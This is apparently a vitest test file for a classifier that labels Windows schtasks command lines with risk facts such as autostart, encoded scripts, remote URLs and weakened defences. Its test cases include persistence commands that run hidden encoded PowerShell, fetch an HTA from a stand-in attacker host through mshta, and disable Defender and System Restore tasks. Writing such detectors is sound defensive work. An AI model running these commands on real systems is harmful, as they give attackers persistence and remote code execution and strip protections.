import { describe, expect, test } from 'vitest'
import { readToolUse } from './read-tool-use'

describe('schtasks', () => {
  test.each([
    ['schtasks /query /tn "\\Name"', 'schtasks /query /tn name', 'schtasks|query|-|-', []],
    ['schtasks /query /fo LIST /v', 'schtasks /query /fo list /v', 'schtasks|query|-|-', []],
    [
      'schtasks.exe /run /tn "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan"',
      'schtasks /run /tn microsoft\\windows\\updateorchestrator\\schedule scan',
      'schtasks|run|-|-',
      [],
    ],
    [
      'schtasks /create /f /tn "Vendor Task" /XML "C:\\Program Files\\Vendor\\task.xml"',
      'schtasks /create /f /tn vendor task /xml <program-files>\\vendor\\task.xml',
      'schtasks|create|program-files|xml',
      [],
    ],
    [
      'schtasks /create /tn VendorUpdate /tr "\\"C:\\Program Files\\Vendor One\\up.exe\\" /silent" /sc daily /st 12:30 /ru SYSTEM /f',
      'schtasks /create /tn vendorupdate /tr <program-files>\\vendor one\\up.exe /silent /sc daily /st <time> /ru system /f',
      'schtasks|create|program-files|exe',
      [],
    ],
    [
      'schtasks /create /tn VendorUpdate /tr "C:\\Program Files\\Vendor One\\up.exe /silent" /sc daily',
      'schtasks /create /tn vendorupdate /tr <program-files>\\vendor one\\up.exe /silent /sc daily',
      'schtasks|create|program-files|exe',
      [],
    ],
    [
      'schtasks /create /tn VendorUpdate /tr "%ProgramFiles%\\Vendor One\\up.exe /silent" /sc daily',
      'schtasks /create /tn vendorupdate /tr <program-files>\\vendor one\\up.exe /silent /sc daily',
      'schtasks|create|program-files|exe',
      [],
    ],
    [
      'schtasks /create /sc minute /mo 5 /tn Up /tr "\'C:\\ProgramData\\a b\\c.exe\' x" /ru "NT AUTHORITY\\SYSTEM"',
      'schtasks /create /sc minute /mo <n> /tn up /tr <program-data>\\a b\\c.exe x /ru system',
      'schtasks|create|program-data|exe',
      ['sets-autostart', 'program-data-folder'],
    ],
    [
      'schtasks /create /sc onlogon /tn Up /tr C:\\Users\\Public\\a.exe /ru system',
      'schtasks /create /sc onlogon /tn up /tr <public>\\a.exe /ru system',
      'schtasks|create|public|exe',
      ['sets-autostart', 'public-folder'],
    ],
    [
      'schtasks /create /tn Up /tr "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" /sc onlogon',
      'schtasks /create /tn up /tr powershell /w hidden /enc <random> /sc onlogon',
      'schtasks|create|bare|-',
      ['sets-autostart', 'launches-command', 'encoded-script'],
    ],
    [
      'schtasks /create /tn Nightly /tr "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\nightly.ps1" /sc daily /st 02:00',
      'schtasks /create /tn nightly /tr powershell.exe /executionpolicy bypass /file <root-folder>\\scripts\\nightly.ps1 /sc daily /st <time>',
      'schtasks|create|root-folder|ps1',
      ['sets-autostart', 'root-folder'],
    ],
    [
      'schtasks /create /tn Nightly /tr "powershell.exe -File \\"C:\\Program Files\\Vendor\\a.ps1\\"" /sc daily',
      'schtasks /create /tn nightly /tr powershell.exe /file <program-files>\\vendor\\a.ps1 /sc daily',
      'schtasks|create|program-files|ps1',
      [],
    ],
    [
      'schtasks /create /tn x /tr "powershell -c \\"iex (gc C:\\Users\\Public\\a.txt); C:\\Windows\\a.ps1\\"" /sc daily',
      'schtasks /create /tn x /tr powershell /c iex (gc c:\\users\\public\\a.txt); c:\\windows\\a.ps1 /sc daily',
      'schtasks|create|bare|-',
      ['sets-autostart', 'launches-command'],
    ],
    [
      'schtasks /create /tn x /tr "cmd /c del /q C:\\Temp\\*.log" /sc daily',
      'schtasks /create /tn x /tr cmd /c del /q <temp>\\*.log /sc daily',
      'schtasks|create|bare|-',
      ['sets-autostart'],
    ],
    [
      'schtasks /create /tn x /tr "cmd /c C:\\Scripts\\backup.bat >> C:\\Logs\\a.log 2>&1" /sc daily',
      'schtasks /create /tn x /tr cmd /c <root-folder>\\scripts\\backup.bat >> <root-folder>\\logs\\a.log 2>&<n> /sc daily',
      'schtasks|create|root-folder|bat',
      ['sets-autostart', 'root-folder'],
    ],
    [
      'schtasks /create /tn x /tr "cmd /c start /min C:\\Users\\Public\\x.exe" /sc daily',
      'schtasks /create /tn x /tr cmd /c start /min <public>\\x.exe /sc daily',
      'schtasks|create|public|exe',
      ['sets-autostart', 'public-folder'],
    ],
    [
      'schtasks /create /tn x /tr "C:\\Windows\\System32\\conhost.exe --headless powershell iwr" /sc daily',
      'schtasks /create /tn x /tr <system>\\conhost.exe /headless powershell iwr /sc daily',
      'schtasks|create|system|exe',
      ['sets-autostart', 'launches-command'],
    ],
    [
      'schtasks /create /tn x /tr "rundll32 C:\\ProgramData\\x.dll,Run" /sc daily',
      'schtasks /create /tn x /tr rundll32 <program-data-root>\\x.dll,run /sc daily',
      'schtasks|create|bare|-',
      ['sets-autostart', 'launches-command', 'program-data-root'],
    ],
    [
      'schtasks /create /tn x /tr "mshta http://evil.example/a.hta" /sc daily',
      'schtasks /create /tn x /tr mshta http://evil.example/*.hta /sc daily',
      'schtasks|create|bare|-',
      ['sets-autostart', 'launches-command', 'remote-url'],
    ],
    [
      'schtasks /create /tn reboot /tr "shutdown /r /t 0" /sc once /st 23:00',
      'schtasks /create /tn reboot /tr shutdown /r /t <n> /sc once /st <time>',
      'schtasks|create|bare|-',
      [],
    ],
    [
      'schtasks /create /s srv1 /u CORP\\adm /p Secret1! /tn x /tr C:\\Windows\\Temp\\a.exe /sc once /st 00:00',
      'schtasks /create /s <host> /u <account> /p <secret> /tn x /tr <temp>\\*.exe /sc once /st <time>',
      'schtasks|create|temp|exe',
      ['sets-autostart', 'remote-host', 'temp-folder'],
    ],
    [
      'schtasks /create /tn "Updates\\xYz" /XML "C:\\Users\\ann\\AppData\\Local\\Temp\\tmp1234.tmp"',
      'schtasks /create /tn updates\\xyz /xml <user-temp>\\*.tmp',
      'schtasks|create|user-temp|tmp',
      ['user-temp', 'odd-extension'],
    ],
    [
      'schtasks /change /tn "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan" /disable',
      'schtasks /change /tn microsoft\\windows\\windows defender\\windows defender scheduled scan /disable',
      'schtasks|change|-|-',
      ['weakens-defence'],
    ],
    [
      'schtasks /Change /TN "\\Microsoft\\Windows\\SystemRestore\\SR" /disable',
      'schtasks /change /tn microsoft\\windows\\systemrestore\\sr /disable',
      'schtasks|change|-|-',
      ['weakens-defence'],
    ],
    [
      'schtasks /delete /tn "VendorUpdate" /f',
      'schtasks /delete /tn vendorupdate /f',
      'schtasks|delete|-|-',
      [],
    ],
    [
      'schtasks /create /tn OneDriveX /tr "C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe" /sc daily',
      'schtasks /create /tn onedrivex /tr <local>\\microsoft\\onedrive\\onedrivestandaloneupdater.exe /sc daily',
      'schtasks|create|local|exe',
      ['sets-autostart', 'user-product-folder'],
    ],
    ['schtasks', 'schtasks', 'schtasks|query|-|-', []],
    [
      'schtasks /create /tn "Backup {12345678-1234-1234-1234-123456789012}" /tr "C:\\Tools\\backup.exe" /sc weekly /d MON /st 01:00',
      'schtasks /create /tn backup {<guid>} /tr <root-folder>\\tools\\backup.exe /sc weekly /d mon /st <time>',
      'schtasks|create|root-folder|exe',
      ['sets-autostart', 'root-folder'],
    ],
    [
      'schtasks /run /i /tn Vendor /s pc7',
      'schtasks /run /i /tn vendor /s <host>',
      'schtasks|run|-|-',
      ['remote-host'],
    ],
    ['schtasks /query /s pc7', 'schtasks /query /s <host>', 'schtasks|query|-|-', []],
  ])('%s', (line, pattern, shape, facts) => {
    expect(readToolUse('schtasks.exe', line, 'C:\\Windows\\System32\\schtasks.exe')).toMatchObject({
      pattern,
      shape,
      facts,
      hosted: null,
    })
  })
})
